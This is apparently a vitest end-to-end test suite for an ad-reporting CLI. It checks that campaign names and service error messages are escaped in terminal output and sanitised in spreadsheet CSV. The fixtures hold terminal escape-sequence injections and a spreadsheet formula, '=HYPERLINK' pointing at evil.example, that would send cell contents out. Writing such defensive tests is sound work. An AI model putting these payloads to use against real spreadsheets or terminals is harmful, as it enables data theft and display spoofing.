/**
 * What the formats show, end to end: the real CLI against a real `serve` loaded with names an advertiser
 * might type (terminal control sequences, spreadsheet formulas, tabs, line breaks, backslashes), and small
 * local HTTP servers for what a service may say in an error.
 */
import { spawnSync } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { type CliResult, cliCommand, runCli, startCliServe } from "../helpers/cli";
import { tempDir } from "../helpers/temp";

const ESC = "\u001b";
const BEL = "\u0007";
const NAMES = {
  1: `${ESC}[31mRED${ESC}[0m${ESC}]0;pwned-title${BEL}`,
  2: '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
  3: "tab\tinside, line\nbreak, cr\rhere, back\\slash",
  4: "-20% sale",
  5: "Été 🌞 plain",
} as const;
const AD_OF_CAMPAIGN = { 1: 10, 2: 20, 3: 30, 4: 40, 5: 50 } as const;

const dir = tempDir();
const db = join(dir, "formats.db");
const load = join(dir, "names.ndjson");
writeFileSync(
  load,
  Object.entries(NAMES)
    .map(([id, name]) =>
      JSON.stringify({
        advertiser: "Acme Outdoor",
        campaign_id: Number(id),
        campaign: name,
        ad_id: AD_OF_CAMPAIGN[Number(id) as keyof typeof AD_OF_CAMPAIGN],
        ad: `ad ${id}`,
        hour: "2026-10-05T13:00:00Z",
        views: 100 * Number(id),
        clicks: Number(id),
        bot_clicks: 0,
        spending: Number(id) + 0.25,
        conversions: 1,
      }),
    )
    .join("\n"),
);
for (const args of [
  ["serve", "init", "--db", db],
  ["serve", "load", "--db", db, load],
]) {
  const result = await runCli(args);
  if (result.code !== 0) throw new Error(result.stderr);
}
const KEY = (
  await runCli(["serve", "key", "issue", "--db", db, "--advertiser", "Acme Outdoor", "--ip", "127.0.0.1"])
).stdout.trim();
const serve = await startCliServe(["--db", db, "--quiet"]);
const RANGE = ["--from", "2026-10-01", "--to", "2026-10-31"];

/** No colour settings of the developer's own leak in: each test says what it wants. */
const BASE_ENV = {
  ADREPORT_CONFIG_DIR: join(dir, "config"),
  ADREPORT_API_KEY: KEY,
  ADREPORT_BASE_URL: serve.url,
  NO_COLOR: undefined,
  FORCE_COLOR: undefined,
  TERM: "xterm-256color",
};

function report(args: string[], env: Record<string, string | undefined> = {}): Promise<CliResult> {
  return runCli(["report", ...RANGE, ...args], { env: { ...BASE_ENV, ...env } });
}

/** The CLI on a pseudo-terminal (stdout and stderr both terminals): what the screen received. */
function onTerminal(args: string[], env: Record<string, string | undefined> = {}) {
  const [command, argv] = cliCommand(["report", ...RANGE, ...args]);
  const merged: NodeJS.ProcessEnv = {};
  for (const [name, value] of Object.entries({ ...process.env, ...BASE_ENV, ...env }))
    if (value !== undefined) merged[name] = value;
  const result = spawnSync(
    "python3",
    [join(import.meta.dirname, "..", "helpers", "pty-run.py"), "200", "", "", "--", command, ...argv],
    { encoding: "utf8", env: merged },
  );
  return JSON.parse(result.stdout) as { screen: string; code: number | null };
}

const servers: Array<{ close(): void }> = [];
afterAll(() => {
  for (const server of servers) server.close();
});

/** A service that answers every request with `status` and an error body whose message is `message`. */
async function failingService(status: number, message: string): Promise<string> {
  const server = createServer((_req, res) => {
    res.writeHead(status, { "content-type": "application/json" });
    res.end(JSON.stringify({ error: { status, code: "invalid_parameter", message, param: "from" } }));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  servers.push(server);
  return `http://127.0.0.1:${(server.address() as { port: number }).port}`;
}

describe("names on a terminal are shown, never obeyed", () => {
  it("the table shows control characters as escapes", async () => {
    const result = await report(["--dims", "campaign", "--format", "table"]);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).not.toContain(ESC);
    expect(result.stdout).not.toContain(BEL);
    expect(result.stdout).toContain("\\x1b[31mRED\\x1b[0m\\x1b]0;pwned-title\\x07");
    expect(result.stdout).toContain("tab\\tinside, line\\nbreak, cr\\rhere, back\\slash");
  });

  it("on a real terminal too: no colour change, no window title", () => {
    const { screen, code } = onTerminal(["--dims", "campaign"]);
    expect(code).toBe(0);
    expect(screen).toContain("\\x1b[31mRED");
    expect(screen).not.toContain(`${ESC}[31m`);
    expect(screen).not.toContain(`${ESC}]0;`);
    expect(screen).not.toContain(BEL);
  });

  it("an error message quoting the service is escaped", async () => {
    const url = await failingService(400, `from: bad ${ESC}]0;pwned${BEL} value\nsecond line`);
    const result = await report([], { ADREPORT_BASE_URL: url });
    expect(result.code).toBe(2);
    expect(result.stderr).not.toContain(ESC);
    expect(result.stderr).toBe(
      "adreport: the service refused the request: from: bad \\x1b]0;pwned\\x07 value\\nsecond line\n",
    );
  });

  it("--verbose lines and the final error escape what a failing service said", async () => {
    const url = await failingService(503, `down ${ESC}[2J for now`);
    const result = await report(["--verbose", "--retries", "1"], { ADREPORT_BASE_URL: url });
    expect(result.code).toBe(5);
    expect(result.stderr).not.toContain(ESC);
    expect(result.stderr).toMatch(/adreport: retry 1\/1 in [\d.]+ s: the service answered 503: down \\x1b\[2J for now/);
    expect(result.stderr).toContain(
      "adreport: the service answered 503: down \\x1b[2J for now (page 1: gave up after 2",
    );
  });
});

describe("colour is decided by the stream written to", () => {
  const BOLD = `${ESC}[1m`;

  it("a table file written from a terminal has no colour, while the terminal's table has", () => {
    const file = join(dir, "typed-at-a-terminal.txt");
    const { code } = onTerminal(["--dims", "campaign", "-o", file]);
    expect(code).toBe(0);
    const text = readFileSync(file, "utf8");
    expect(text).toContain("campaign_id");
    expect(text).not.toContain(ESC);
    expect(onTerminal(["--dims", "campaign"]).screen).toContain(`${BOLD}campaign_id`);
  });

  it("NO_COLOR and FORCE_COLOR=0 turn it off on a terminal; FORCE_COLOR=1 turns it on in a pipe", async () => {
    expect(onTerminal(["--dims", "campaign"], { NO_COLOR: "1" }).screen).not.toContain(BOLD);
    expect(onTerminal(["--dims", "campaign"], { FORCE_COLOR: "0" }).screen).not.toContain(BOLD);
    expect((await report(["--dims", "campaign", "--format", "table"])).stdout).not.toContain(ESC);
    const forced = await report(["--dims", "campaign", "--format", "table"], { FORCE_COLOR: "1" });
    expect(forced.stdout).toContain(`${BOLD}campaign_id`);
  });
});

describe("data formats keep the exact bytes", () => {
  it("plain CSV writes every name as the service sent it", async () => {
    const result = await report(["--dims", "campaign", "--metrics", "views", "--format", "csv"]);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain(`\n1,${NAMES[1]},100\n`);
    expect(result.stdout).toContain('\n2,"=HYPERLINK(""http://evil.example/?x=""&A1,""Click me"")",200\n');
    expect(result.stdout).toContain("\n4,-20% sale,400\n");
  });
});

describe("--spreadsheet", () => {
  it("writes CSV for spreadsheet programs: BOM, CRLF, formula-like text prefixed, numbers untouched", async () => {
    const file = join(dir, "for-excel.csv");
    const result = await report(["--dims", "campaign", "--metrics", "views,spending", "--spreadsheet", "-o", file]);
    expect(result.code, result.stderr).toBe(0);
    const text = readFileSync(file, "utf8");
    expect(text.startsWith("\uFEFFcampaign_id,name,views,spending\r\n")).toBe(true);
    expect(text).toContain('\r\n2,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click me"")",200,2.25\r\n');
    expect(text).toContain("\r\n4,'-20% sale,400,4.25\r\n");
    expect(text).toContain('\r\n3,"tab\tinside, line\nbreak, cr\rhere, back\\slash",300,3.25\r\n');
    expect(text).toContain("\r\n5,Été 🌞 plain,500,5.25\r\n");
  });

  it("comes from the spreadsheet setting for CSV, and --no-spreadsheet overrides it", async () => {
    const config = join(dir, "spreadsheet-config");
    expect(
      (await runCli(["config", "set", "spreadsheet", "true"], { env: { ADREPORT_CONFIG_DIR: config } })).code,
    ).toBe(0);
    const withSetting = await report(["--dims", "campaign", "--format", "csv"], { ADREPORT_CONFIG_DIR: config });
    expect(withSetting.stdout.startsWith("\uFEFF")).toBe(true);
    expect(withSetting.stdout).toContain("'-20% sale");
    const overridden = await report(["--dims", "campaign", "--format", "csv", "--no-spreadsheet"], {
      ADREPORT_CONFIG_DIR: config,
    });
    expect(overridden.stdout).toContain("\n4,-20% sale,");
    const json = await report(["--dims", "campaign", "--format", "json"], { ADREPORT_CONFIG_DIR: config });
    expect(json.code).toBe(0);
    expect(json.stderr).toBe("");
  });

  it("is refused with another format named", async () => {
    for (const args of [
      ["--format", "json"],
      ["--format", "tsv"],
      ["-o", join(dir, "x.ndjson")],
    ]) {
      const result = await report(["--spreadsheet", ...args]);
      expect(result.code, args.join(" ")).toBe(2);
      expect(result.stderr).toMatch(/^adreport: --spreadsheet makes CSV; the output here is \w+\nhint: /);
    }
  });
});

describe("--format tsv", () => {
  const hasMiller = spawnSync("mlr", ["--version"]).status === 0;
  if (!hasMiller) console.warn("formats e2e: TSV read-back skipped: Miller (mlr) is not on PATH");

  it("writes one line per row, tab-split, with backslash escapes", async () => {
    const file = join(dir, "names.tsv");
    const result = await report(["--dims", "campaign", "--metrics", "views", "-o", file]);
    expect(result.code, result.stderr).toBe(0);
    const lines = readFileSync(file, "utf8").split("\n");
    expect(lines[0]).toBe("campaign_id\tname\tviews");
    expect(lines).toContain("3\ttab\\tinside, line\\nbreak, cr\\rhere, back\\\\slash\t300");
    expect(lines).toHaveLength(Object.keys(NAMES).length + 2);
  });

  it.skipIf(!hasMiller)("reads back exactly with Miller", async () => {
    const result = await report(["--dims", "campaign", "--metrics", "views", "--format", "tsv"]);
    const read = spawnSync("mlr", ["--itsv", "--ojsonl", "--infer-none", "cut", "-f", "name"], {
      input: result.stdout,
      encoding: "utf8",
    });
    expect(read.status, read.stderr).toBe(0);
    // Miller writes ESC and BEL raw inside its JSON strings; JSON.parse wants them escaped.
    const names = read.stdout
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line.replaceAll(ESC, "\\u001b").replaceAll(BEL, "\\u0007")).name);
    expect(names).toEqual(Object.values(NAMES));
  });
});

describe("warnings instead of guesses", () => {
  it("--granularity without date in --dims", async () => {
    const result = await report(["--dims", "campaign", "--granularity", "hour", "--format", "csv"]);
    expect(result.code).toBe(0);
    expect(result.stderr).toBe(
      "adreport: warning: --granularity hour does nothing without date in --dims (the service ignores it)\n",
    );
    expect((await report(["--dims", "campaign,date", "--granularity", "hour", "--format", "csv"])).stderr).toBe("");
  });

  it("--bom and --delimiter with a format other than CSV", async () => {
    const result = await report(["--format", "json", "--bom", "--delimiter", ";"]);
    expect(result.code).toBe(0);
    expect(result.stdout.startsWith("{")).toBe(true);
    expect(result.stderr).toBe(
      "adreport: warning: --bom applies to CSV only; the json output has no byte-order mark\n" +
        "adreport: warning: --delimiter applies to CSV only; it does nothing to the json output\n",
    );
  });

  it("--ad with a --campaign it is not in, once the report came back empty", async () => {
    for (const dims of [["--dims", "ad"], []]) {
      const result = await report([...dims, "--ad", "20", "--campaign", "1", "--format", "csv"]);
      expect(result.code).toBe(0);
      expect(result.stderr).toBe(
        "adreport: warning: no data for --ad 20 with --campaign 1: the report is empty when the ad is not in that campaign (or has no data in the range)\n",
      );
    }
    const matching = await report(["--dims", "ad", "--ad", "20", "--campaign", "2", "--format", "csv"]);
    expect(matching.stderr).toBe("");
    expect(matching.stdout.trim().split("\n")).toHaveLength(2);
  });
});
